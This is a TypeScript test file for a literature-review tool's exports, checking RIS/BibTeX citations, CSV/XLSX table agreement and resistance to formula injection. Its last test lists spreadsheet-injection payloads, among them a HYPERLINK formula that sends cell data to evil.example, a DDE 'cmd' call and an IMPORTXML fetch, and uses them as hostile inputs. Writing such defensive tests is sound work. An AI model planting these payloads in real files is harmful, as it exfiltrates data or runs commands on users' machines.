import { parse } from 'csv-parse/sync'
import { XMLParser } from 'fast-xml-parser'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { z } from 'zod'
import { workOf } from '@/bench/catalogue-works'
import { locales } from '@/lib/contracts/locale'
import { titleKey } from '@/lib/core/formats/files-named'
import { readReferences } from '@/lib/core/formats/read-references'
import { reviewStateOf } from '@/lib/core/review/review-state'
import { printedWorks } from '@/lib/core/review/review-tree'
import { renderReview } from '@/lib/server/render-review'
import { Review, sourcesOf } from '@/lib/server/testing/test-review'
import { DEFAULT_SEED, generateCatalogue } from '@/sandbox/catalogue/generate'

const { signal } = new AbortController()
const works = generateCatalogue(DEFAULT_SEED)
  .records.slice(0, 16)
  .map((record) => workOf(record, 'openalex'))
const QUESTION = 'How many participants were there?'

const Sheet = z.object({
  worksheet: z.object({
    sheetData: z.object({
      row: z.array(
        z.object({
          c: z.array(
            // Nothing but a text: neither a value that is reckoned nor a formula.
            z.strictObject({
              '@_r': z.string(),
              '@_t': z.literal('inlineStr'),
              is: z.strictObject({
                t: z.strictObject({ '#text': z.string(), '@_xml:space': z.literal('preserve') }),
              }),
            }),
          ),
        }),
      ),
    }),
  }),
})
const sheetReader = new XMLParser({
  ...{ ignoreAttributes: false, parseTagValue: false, trimValues: false, alwaysCreateTextNode: true },
  isArray: (name) => name === 'row' || name === 'c',
})

/** The texts of the cells of a workbook's only sheet, by row. */
function cellsOf(bytes: Uint8Array): string[][] {
  const sheet = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
  const { worksheet } = Sheet.parse(sheetReader.parse(sheet, true))
  return worksheet.sheetData.row.map(({ c }) => c.map(({ is }) => is.t['#text']))
}

const linesOf = (csv: string): string[][] => parse(csv, { bom: true })

describe.each(locales)('the files of a review in %s', (locale) => {
  const begun = (async () => {
    const review = new Review(sourcesOf(works), { locale })
    return review.answer(await review.written(), { kind: 'column', question: QUESTION })
  })()
  const fileOf = async (format: Parameters<typeof renderReview>[1]['format']) =>
    (await renderReview(await begun, { format, signal })).bytes

  test('RIS and BibTeX hold exactly the works that its text cites', async () => {
    const state = reviewStateOf(await begun)
    const cited = state.cited.map((key) => titleKey(printedWorks(state).get(key)?.title ?? '')).toSorted()
    expect(cited.length).toBeGreaterThan(3)
    expect(cited.length).toBeLessThanOrEqual(works.length)
    for (const format of ['ris', 'bib'] as const) {
      const { items } = readReferences(String(await fileOf(format)), { itemsMax: 100 })
      expect(items.map(({ title }) => titleKey(title ?? '')).toSorted()).toEqual(cited)
    }
    const bib = String(await fileOf('bib'))
    expect([...bib.matchAll(/^@\w+\{([^,]+),/gm)].map(([, key]) => key).toSorted()).toEqual(
      [...state.cited].toSorted(),
    )
  })

  test('the synthesis table is the same as CSV and as a workbook: one row a source, the column that was asked for, each cell a sentence of its source or "not said"', async () => {
    const state = reviewStateOf(await begun)
    const xlsx = await fileOf('xlsx')
    if (typeof xlsx === 'string') throw new Error('a workbook is bytes')
    const [head = [], ...rows] = cellsOf(xlsx)
    expect(linesOf(String(await fileOf('csv')))).toEqual([head, ...rows])
    expect(head).toHaveLength(10)
    expect(head[7]).toBe(QUESTION)
    expect(rows).toHaveLength(works.length)
    const notSaid = { en: 'not said', 'pt-BR': 'não informado', es: 'no informado' }[locale]
    const answers = rows.map((row) => row[7] ?? '')
    expect(answers.some((text) => text !== notSaid)).toBe(true)
    for (const [at, row] of rows.entries()) {
      const work = state.reviewed[at]?.source.work
      for (const text of [row[3], row[4], row[5], row[6], row[7]])
        if (text !== notSaid) expect(`${work?.title} ${work?.abstract}`).toContain(text)
    }
  })
})

/** What a spreadsheet would reckon, send away or start, as others have put it into catalogues. */
const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "+SUM(1,2)*cmd|' /C calc'!A0",
  '-2+3 of the nurses slept longer',
  '@SUM(A1:A9)',
  '\t=1+1',
  '＝IMPORTXML("https://evil.example","//a")',
  '"=1+1',
  '<c t="str"><f>1+1</f></c> & ]]>',
]

test('a text that begins like a formula stays a text in both files of the synthesis table', async () => {
  const hostile = works.slice(0, formulas.length).map((work, at) => ({
    ...work,
    title: `${formulas[at]} remote work`,
    authors: [{ family: formulas[at] }],
    abstract: `${formulas[at]} was measured with a scale among 120 nurses in Brazil. ${formulas[at]} increased productivity by 12% (p < 0.01).`,
  }))
  const review = new Review(sourcesOf(hostile))
  const run = await review.answer(await review.written(), {
    kind: 'column',
    question: '=1+1 which scale was used?',
  })
  const fileOf = async (format: 'csv' | 'xlsx') => (await renderReview(run, { format, signal })).bytes
  const lines = linesOf(String(await fileOf('csv')))
  const xlsx = await fileOf('xlsx')
  if (typeof xlsx === 'string') throw new Error('a workbook is bytes')
  expect(lines).toHaveLength(formulas.length + 1)
  expect(cellsOf(xlsx)).toHaveLength(formulas.length + 1)
  for (const cell of lines.flat()) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝|%]/u)
})
